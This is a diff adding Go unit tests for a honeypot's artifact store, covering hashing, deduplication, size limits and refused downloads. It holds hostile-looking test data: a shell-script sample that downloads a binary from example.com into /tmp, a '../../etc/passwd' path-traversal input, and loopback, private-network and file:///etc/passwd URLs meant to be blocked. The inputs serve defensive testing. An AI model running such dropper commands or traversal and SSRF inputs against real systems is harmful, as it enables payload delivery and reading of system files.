@@ -0,0 +1,171 @@
+// Copyright 2016-2019 DutchSec (https://dutchsec.com/)
+//
+// Licensed under the Apache License, Version 2.0 (the "License");
+// you may not use this file except in compliance with the License.
+// You may obtain a copy of the License at
+//
+// http://www.apache.org/licenses/LICENSE-2.0
+//
+// Unless required by applicable law or agreed to in writing, software
+// distributed under the License is distributed on an "AS IS" BASIS,
+// WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+// See the License for the specific language governing permissions and
+// limitations under the License.
+package artifacts
+
+import (
+	"bytes"
+	"crypto/sha256"
+	"encoding/hex"
+	"io/ioutil"
+	"os"
+	"strings"
+	"testing"
+
+	"github.com/honeytrap/honeytrap/event"
+	"github.com/honeytrap/honeytrap/pushers/pushertest"
+)
+
+func value(e event.Event, key string) interface{} {
+	var v interface{}
+
+	e.Range(func(k, val interface{}) bool {
+		if k == key {
+			v = val
+			return false
+		}
+
+		return true
+	})
+
+	return v
+}
+
+func newStore(t *testing.T) (*Store, func()) {
+	dir, err := ioutil.TempDir("", "artifacts")
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	s, err := New(WithDataDir(dir))
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	return s, func() {
+		os.RemoveAll(dir)
+	}
+}
+
+func TestSave(t *testing.T) {
+	s, cleanup := newStore(t)
+	defer cleanup()
+
+	c := &pushertest.Channel{}
+
+	data := "#!/bin/sh\nwget http://example.com/x86 -O /tmp/x86\n"
+
+	a, err := s.Save(c, strings.NewReader(data), "a.sh", event.Category("test"))
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	if sum := sha256.Sum256([]byte(data)); a.SHA256 != hex.EncodeToString(sum[:]) {
+		t.Errorf("Unexpected hash %s", a.SHA256)
+	}
+
+	if !a.Stored || a.Size != int64(len(data)) || !strings.HasPrefix(a.MimeType, "text/plain") {
+		t.Errorf("Unexpected artifact %+v", a)
+	}
+
+	b, err := s.Save(c, strings.NewReader(data), "b.sh", event.Category("test"))
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	if b.SHA256 != a.SHA256 || b.Count != 2 || len(b.Names) != 2 {
+		t.Errorf("Expected duplicate to update the artifact, got %+v", b)
+	}
+
+	if len(c.Events()) != 2 {
+		t.Fatalf("Expected 2 events, got %d", len(c.Events()))
+	}
+
+	if c.Events()[0].Get("type") != "artifact" || c.Events()[0].Get("category") != "test" || c.Events()[0].Get("artifact.sha256") != a.SHA256 {
+		t.Errorf("Unexpected event %v", c.Events()[0])
+	}
+
+	if value(c.Events()[0], "artifact.duplicate") != false || value(c.Events()[1], "artifact.duplicate") != true {
+		t.Errorf("Expected second event to be a duplicate")
+	}
+
+	f, err := s.Open(a.SHA256)
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	defer f.Close()
+
+	if content, _ := ioutil.ReadAll(f); string(content) != data {
+		t.Errorf("Unexpected content %q", content)
+	}
+
+	// metadata survives a restart
+	s2, _ := New()
+	s2.dir = s.dir
+
+	if list, err := s2.List(); err != nil {
+		t.Fatal(err)
+	} else if len(list) != 1 || list[0].Count != 2 {
+		t.Errorf("Unexpected list %+v", list)
+	}
+}
+
+func TestLimits(t *testing.T) {
+	s, cleanup := newStore(t)
+	defer cleanup()
+
+	s.MaxFileSize = 10
+	s.MaxTotalSize = 15
+
+	a, err := s.Save(nil, bytes.NewReader(make([]byte, 11)), "big")
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	if a.Stored || a.Size != 11 {
+		t.Errorf("Expected artifact exceeding the file size not to be stored, got %+v", a)
+	}
+
+	// artifacts that aren't stored aren't indexed
+	if _, err := s.Get(a.SHA256); err != ErrNotFound {
+		t.Errorf("Expected ErrNotFound, got %v", err)
+	}
+
+	if _, err := os.Stat(s.path(a.SHA256) + ".json"); !os.IsNotExist(err) {
+		t.Errorf("Expected no metadata, got %v", err)
+	}
+
+	if a, _ := s.Save(nil, bytes.NewReader(make([]byte, 10)), "first"); !a.Stored {
+		t.Errorf("Expected artifact to be stored")
+	}
+
+	if a, _ := s.Save(nil, bytes.NewReader(make([]byte, 9)), "second"); a.Stored {
+		t.Errorf("Expected artifact exceeding the total size not to be stored")
+	}
+
+	if _, err := s.Open("../../etc/passwd"); err != ErrNotFound {
+		t.Errorf("Expected ErrNotFound, got %v", err)
+	}
+}
+
+func TestDownloadForbidden(t *testing.T) {
+	s, cleanup := newStore(t)
+	defer cleanup()
+
+	for _, rawurl := range []string{"http://127.0.0.1:1/", "http://[::1]:1/", "http://10.0.0.1/", "file:///etc/passwd"} {
+		if _, err := s.Download(nil, rawurl); err == nil {
+			t.Errorf("Expected download of %s to be refused", rawurl)
+		}
+	}
+}